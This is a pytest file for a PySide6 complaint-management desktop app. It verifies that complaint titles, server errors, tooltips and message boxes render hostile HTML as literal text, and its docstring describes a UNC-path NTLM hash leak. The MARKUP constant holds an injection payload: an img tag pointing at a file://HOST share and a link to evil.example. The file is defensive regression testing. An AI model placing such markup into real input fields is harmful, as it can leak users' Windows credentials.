"""Finding 3 of issue 19: hostile complaint and server text is shown literally, never as markup.

A complaint title such as ``<img src=file://HOST/share/x>`` made Qt fetch that path (on Windows a
UNC path that can leak the officer's NTLM hash) and server messages showed live links. Each widget
that shows server or officer text is fed such markup through its public API; then every label,
tooltip (widgets, list/table/tree items) and message box in it is checked to *display* the
markup as written.
"""

from __future__ import annotations

import dataclasses
import datetime as dt

import pytest
from PySide6.QtCore import QAbstractItemModel, QModelIndex, Qt, QTimer
from PySide6.QtGui import Qt as GuiQt
from PySide6.QtGui import QTextDocument
from PySide6.QtWidgets import QAbstractItemView, QApplication, QLabel, QMessageBox, QWidget

from lapor_desktop.core.errors import KnownError
from lapor_desktop.core.models import ActionKind, Attachment, TimeZone
from lapor_desktop.store.profile import ensure_profile_dir
from lapor_desktop.sync.outbox import ActionInput, queue_action
from lapor_desktop.ui import plain
from lapor_desktop.ui.change_hub import ChangeHub
from lapor_desktop.ui.conflict_dialog import ConflictDialog
from lapor_desktop.ui.detail_view import ComplaintDetail
from lapor_desktop.ui.error_bridge import ErrorBridge
from lapor_desktop.ui.followup_editor import FollowUpEditor
from lapor_desktop.ui.ledger_view import LedgerView
from lapor_desktop.ui.recover_dialog import RecoverDraftsDialog
from lapor_desktop.ui.tasks import TaskManager
from lapor_desktop.workbench import Workbench
from lapor_desktop.workbench.drafts import RecoverableDraft
from lapor_desktop.workbench.ledger import RevisionContext
from tests.sync_helpers import FOLLOW_UP_TEXT
from tests.unit.store.conftest import T0, make_complaint

MARKUP = '<img src=file://HOST/share/x><a href="http://evil.example/">klik</a>'


def shown(text: str, fmt: Qt.TextFormat = Qt.TextFormat.AutoText) -> str:
    """What Qt puts on screen for ``text`` in ``fmt`` (tooltips are always AutoText)."""
    if fmt == Qt.TextFormat.PlainText or (fmt == Qt.TextFormat.AutoText
                                          and not GuiQt.mightBeRichText(text)):
        return text
    doc = QTextDocument()
    doc.setHtml(text)
    return doc.toPlainText()


def _model_tooltips(model: QAbstractItemModel, parent: QModelIndex | None = None) -> list[str]:
    parent = QModelIndex() if parent is None else parent
    tips = []
    row = 0
    while model.hasIndex(row, 0, parent):
        column = 0
        while model.hasIndex(row, column, parent):  # (list models hide columnCount)
            index = model.index(row, column, parent)
            tip = model.data(index, Qt.ItemDataRole.ToolTipRole)
            if tip:
                tips.append(str(tip))
            tips += _model_tooltips(model, index) if column == 0 else []
            column += 1
        row += 1
    return tips


def assert_shows_literally(root: QWidget) -> int:
    """Every place under ``root`` holding the markup displays it as written; returns how many."""
    widgets = [root, *root.findChildren(QWidget)]
    places = 0
    for widget in widgets:
        if isinstance(widget, QLabel) and "HOST" in widget.text():
            places += 1
            assert MARKUP in shown(widget.text(), widget.textFormat()), widget.objectName()
        if "HOST" in widget.toolTip():
            places += 1
            assert MARKUP in shown(widget.toolTip()), widget.objectName()
        if isinstance(widget, QAbstractItemView) and widget.model() is not None:
            for tip in _model_tooltips(widget.model()):
                if "HOST" in tip:
                    places += 1
                    assert MARKUP in shown(tip), widget.objectName()
    return places


@pytest.fixture
def world(tmp_path):
    """A profile holding a complaint whose title, tracking id and body are markup."""
    profile = ensure_profile_dir(tmp_path / "p")
    bench = Workbench.open(profile, None)
    store = bench.store
    hostile = make_complaint(5, title=MARKUP, body=MARKUP, tracking_id="T1" + MARKUP,
                             location=MARKUP)
    with store.transaction() as s:
        store.complaints.upsert_snapshots(s, [hostile])
    tasks = TaskManager()
    yield bench, store, tasks, store.complaints.get(5)
    tasks.shutdown()
    bench.close()


def _now() -> dt.datetime:
    return dt.datetime.now(dt.UTC)


def test_recover_dialog_tooltip_shows_the_title_literally(qtbot):
    dialog = RecoverDraftsDialog([RecoverableDraft(1, 5, "T1", MARKUP, "baris", T0)])
    qtbot.addWidget(dialog)
    assert assert_shows_literally(dialog) == 1


def test_ledger_title_and_server_reason_show_literally(qtbot, world):
    bench, store, tasks, _complaint = world
    op_id = queue_action(store, 5, ActionInput(ActionKind.FOLLOW_UP, text=FOLLOW_UP_TEXT))
    with store.transaction() as s:
        store.outbox.mark_retry(s, op_id, "Server: " + MARKUP, _now())
    view = LedgerView(tasks, bench, ChangeHub(tasks))
    qtbot.addWidget(view)
    with qtbot.waitSignal(view.loaded, timeout=10_000):
        view.refresh()
    # the tracking id, the title and the status cell's "last error" tooltip
    assert assert_shows_literally(view) >= 3
    view.table.selectRow(0)
    view.discard_selected()  # "Buang tindakan?" names the server's tracking id
    assert view.confirm_box is not None
    assert view.confirm_box.textFormat() == Qt.TextFormat.PlainText
    view.confirm_box.reject()


def test_follow_up_editor_title_label_shows_the_tracking_id_literally(qtbot, world, tmp_path):
    bench, _store, tasks, complaint = world
    editor = FollowUpEditor(tasks, bench, ChangeHub(tasks),
                            ErrorBridge(tmp_path / "logs", interactive=False))
    qtbot.addWidget(editor)
    editor.set_complaint(complaint)
    qtbot.waitUntil(lambda: "HOST" in editor.title.text(), timeout=10_000)
    assert assert_shows_literally(editor) >= 1


def test_detail_view_shows_title_body_and_attachment_names_literally(qtbot, world):
    _profile, _store, _tasks, complaint = world
    named = dataclasses.replace(complaint, attachments=[
        Attachment(sha256="a" * 64, filename=MARKUP + ".png", mime_type="image/png", size=10)])
    view = ComplaintDetail()
    qtbot.addWidget(view)
    view.show_complaint(named)
    assert assert_shows_literally(view) >= 3


def test_conflict_dialog_shows_the_servers_reason_literally(qtbot, world):
    _profile, _store, _tasks, complaint = world
    context = RevisionContext("op", ActionKind.FOLLOW_UP, "conflict", MARKUP, FOLLOW_UP_TEXT, {},
                              complaint, TimeZone.WIB)
    dialog = ConflictDialog(context)
    qtbot.addWidget(dialog)
    assert assert_shows_literally(dialog) >= 1


def _modal_texts(qtbot, action) -> list[tuple[str, Qt.TextFormat]]:
    """Run ``action`` (which opens a modal box) and return its labels' text and format."""
    seen: list[tuple[str, Qt.TextFormat]] = []

    def inspect() -> None:
        box = QApplication.activeModalWidget()
        if not isinstance(box, QMessageBox):
            QTimer.singleShot(10, inspect)
            return
        seen.extend((label.text(), label.textFormat()) for label in box.findChildren(QLabel)
                    if label.text())
        box.done(0)

    QTimer.singleShot(0, inspect)
    action()
    return seen


def test_server_messages_in_message_boxes_show_literally(qtbot, tmp_path):
    bridge = ErrorBridge(tmp_path, interactive=True)
    texts = _modal_texts(qtbot, lambda: bridge.show_known(KnownError("Ditolak: " + MARKUP)))
    hostile = [(t, f) for t, f in texts if "HOST" in t]
    assert hostile and all(MARKUP in shown(t, f) for t, f in hostile)


def test_plain_helpers_show_markup_literally(qtbot):
    label = plain.plain_label(MARKUP)
    qtbot.addWidget(label)
    assert shown(label.text(), label.textFormat()) == MARKUP
    assert shown(plain.tooltip("a\n" + MARKUP)).endswith(MARKUP)
    texts = _modal_texts(qtbot, lambda: plain.question(None, "judul", MARKUP))
    assert any(shown(t, f) == MARKUP for t, f in texts)


def _literal(node) -> bool:
    """Text that is ours: translated literals (either branch of a condition), the app's name."""
    import ast

    if isinstance(node, ast.IfExp):
        return _literal(node.body) and _literal(node.orelse)
    if isinstance(node, ast.Constant) or ast.unparse(node) == "APP_NAME":
        return True
    return isinstance(node, ast.Call) and (
        ast.unparse(node.func).endswith("tooltip")
        or ast.unparse(node.func) in {"self.tr", "tr"}
        and all(isinstance(a, ast.Constant) for a in node.args))


def test_no_widget_sets_a_tooltip_or_static_message_box_around_the_helper():
    """Source check: a new tooltip or message box with outside text must use ``ui/plain.py``.

    Allowed without the helper: literal translated strings (``self.tr("...")`` or ``tr(...)``
    with no ``.format``), and the app's own name or counts built from literals.
    """
    import ast
    from pathlib import Path

    ui = Path(plain.__file__).parent
    offenders = []
    for path in [*ui.glob("*.py"), ui.parent / "app.py"]:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Attribute):
                continue
            name = node.func.attr
            static_box = (name in {"warning", "critical", "information", "question"}
                          and isinstance(node.func.value, ast.Name)
                          and node.func.value.id == "QMessageBox")
            if name != "setToolTip" and not static_box:
                continue
            # setToolTip(text) on a widget, setToolTip(column, text) on a tree/table item.
            text = node.args[-1] if name == "setToolTip" else node.args[2]
            source = ast.unparse(text)
            if not _literal(text):
                offenders.append(f"{path.name}:{node.lineno}: {source}")
    allowed = [  # counts only (n laporan, n terlambat): built from literals and numbers
        ("notifier.py", "'\\n'.join(lines)"),
        # errors of opening the local profile or the in-process training server: local paths
        # and our own Indonesian text, never server or complaint text
        ("app.py", "str(error)"), ("app.py", ".format(error=error)")]
    left = [o for o in offenders if not any(o.startswith(f) and o.endswith(t)
                                            for f, t in allowed)]
    assert left == []
